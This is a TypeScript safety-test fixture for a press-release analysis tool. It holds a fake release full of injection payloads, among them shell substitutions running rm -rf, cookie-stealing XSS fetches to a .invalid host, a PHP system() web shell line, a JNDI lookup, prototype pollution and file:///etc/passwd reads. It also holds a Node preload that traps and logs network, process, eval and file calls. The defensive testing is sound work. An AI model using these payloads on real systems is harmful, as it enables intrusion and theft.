// A preload that traps a Node process's network, process and eval entry points, and file
// access to what a hostile release links to, recording every call it refuses; and such a
// release. The server and the CLI are started with it (NODE_OPTIONS=--require) in the safety
// tests; the engine's safety test analyses the same release.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";

export const MARK = "pra-safety-marker";
export const HOSTILE = [
  "FOR IMMEDIATE RELEASE",
  `Acme Launches $(rm -rf /tmp/${MARK}) and \`touch /tmp/${MARK}\` Today`,
  `NEW YORK, Feb. 6, 2026 /PRNewswire/ -- Acme Corp today announced <script>fetch("https://${MARK}.invalid/steal?c="+document.cookie)</script> a product.`,
  `"It is the best ever," said Jane Doe, CEO. <img src=x onerror="fetch('http://${MARK}.invalid')"> {{constructor.constructor('return process')().exit(1)}} \${process.exit(1)}`,
  `According to https://${MARK}.invalid/report and file:///etc/passwd and file:///tmp/${MARK}/secret.txt, the market will reach $50 billion by 2030.`,
  `Experts say require('child_process').execSync('touch /tmp/${MARK}') and eval("process.exit(2)") and new Function("return 1")() and Function("return 2")() are common.`,
  `Visit <https://${MARK}.invalid/a>, [our site](http://${MARK}.invalid/b), ![logo](ftp://${MARK}.invalid/c.png), javascript:alert(1), data:text/html;base64,PHNjcmlwdD4=`,
  `<!--#exec cmd="ls /" --> <?php system($_GET['c']); ?> %{(#_='multipart/form-data')} \${jndi:ldap://${MARK}.invalid/a}`,
  `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}} __proto__ polluted constructor prototype`,
  `Contact: press@${MARK}.invalid, +1 (555) 010-0000, \\\\${MARK}\\share\\file, smb://${MARK}.invalid/x`,
  "About Acme",
  `Acme is a company. Learn more at https://${MARK}.invalid and ./${MARK}/local.txt`,
  "\u202Eevil\u202C \u0000 \uFEFF ### -30- SOURCE Acme Corp",
].join("\n\n");

/** A preload for the server: traps network, process and eval entry points, and file access to the marker. */
const TRAP = String.raw`
const fs = require("fs");
const log = process.env.PRA_TRAP_LOG;
const append = fs.appendFileSync.bind(fs);
const record = (name, detail) => { try { append(log, name + " " + String(detail ?? "").slice(0, 200) + "\n"); } catch {} };
const trap = (obj, key, name) => {
  const old = obj[key];
  if (typeof old !== "function") return;
  try { Object.defineProperty(obj, key, { configurable: true, writable: true, value: function (...a) { record(name, a[0] && (a[0].href || a[0].host || a[0])); throw new Error("blocked: " + name); } }); } catch {}
};
const watchPath = (obj, key, name) => {
  const old = obj[key];
  if (typeof old !== "function") return;
  try { Object.defineProperty(obj, key, { configurable: true, writable: true, value: function (p, ...rest) { if (String(p && (p.href || p)).includes("${MARK}") || String(p).includes("/etc/passwd")) { record(name, p); throw new Error("blocked: " + name); } return old.call(this, p, ...rest); } }); } catch {}
};
for (const [m, keys] of [["net", ["connect", "createConnection"]], ["tls", ["connect"]], ["http", ["request", "get"]], ["https", ["request", "get"]], ["http2", ["connect"]],
  ["dns", ["lookup", "resolve", "resolve4", "resolve6", "resolveAny"]], ["dgram", ["createSocket"]],
  ["child_process", ["spawn", "spawnSync", "exec", "execSync", "execFile", "execFileSync", "fork"]], ["vm", ["runInThisContext", "runInNewContext", "runInContext", "compileFunction"]]]) {
  const mod = require(m);
  for (const k of keys) trap(mod, k, m + "." + k);
}
for (const k of ["fetch", "WebSocket", "eval"]) trap(globalThis, k, "globalThis." + k);
for (const k of ["readFile", "readFileSync", "open", "openSync", "createReadStream", "stat", "statSync", "lstat", "lstatSync", "existsSync", "readdir", "readdirSync", "readlink", "realpath", "access", "accessSync"]) watchPath(fs, k, "fs." + k);
for (const k of ["readFile", "open", "stat", "lstat", "readdir", "access", "realpath"]) watchPath(fs.promises, k, "fs.promises." + k);
// Each thread records itself: the analysis worker loads this preload too.
record("armed", process.pid + " thread " + require("worker_threads").threadId);
`;

/** The preload written to a directory of its own, its log, and what it recorded. */
export class TrapPreload {
  readonly dir = mkdtempSync(path.join(tmpdir(), "pra-safety-"));
  readonly log = path.join(this.dir, "trap.log");
  readonly preload = path.join(this.dir, "trap.cjs");

  constructor() {
    writeFileSync(this.preload, TRAP);
    writeFileSync(this.log, "");
  }

  /** The environment for a process that loads the traps (added to `base`). */
  env(base: NodeJS.ProcessEnv = process.env): NodeJS.ProcessEnv {
    return { ...base, NODE_OPTIONS: `${base.NODE_OPTIONS ?? ""} --require ${this.preload}`.trim(), PRA_TRAP_LOG: this.log };
  }

  /** Everything the log holds. */
  text(): string {
    return readFileSync(this.log, "utf8");
  }

  /** The calls refused (not the lines that say a thread armed the traps). */
  trapped(): string[] {
    return this.text().split("\n").filter((l) => l && !l.startsWith("armed"));
  }

  remove(): void {
    rmSync(this.dir, { recursive: true, force: true });
  }
}
